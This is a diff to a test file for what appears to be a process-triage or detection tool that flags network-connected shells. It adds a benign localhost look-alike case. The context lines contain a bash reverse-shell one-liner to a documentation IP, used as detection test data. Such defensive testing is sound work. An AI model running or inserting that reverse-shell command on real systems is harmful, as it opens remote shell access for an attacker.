@@ -177,6 +177,19 @@ describe('triage 3: shells wired to the network (T1059.004, T1059)', () => {
     s.setStrings(7, 'arg', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1']);
     const r = await triageOf(s.finish());
     assert.ok(of(r, 'shell', 7).some((f) => f.severity === 'high' && /\/dev\/tcp/.test(f.title)), brief(of(r, 'shell')));
+
+    // Look-alikes: a health check probing a local port through /dev/tcp; a Python worker (no listening
+    // socket) running a shell command.
+    const h = await Synth.from(BASE);
+    h.setStrings(7, 'arg', ['bash', '-c', 'echo > /dev/tcp/localhost/8088']);
+    h.setParent(1, 0);
+    const py = h.addRegFile('/usr/bin/python3.11');
+    h.setExe(1, py);
+    h.setComm(1, 'python3.11');
+    h.setStrings(1, 'arg', ['python3.11', '/app/worker.py']);
+    h.setParent(7, 1);
+    const rh = await triageOf(h.finish());
+    assert.deepEqual(of(rh, 'shell').map((f) => `${f.pid} ${f.severity}`), ['7 low'], brief(of(rh, 'shell')));
   });
 });
 
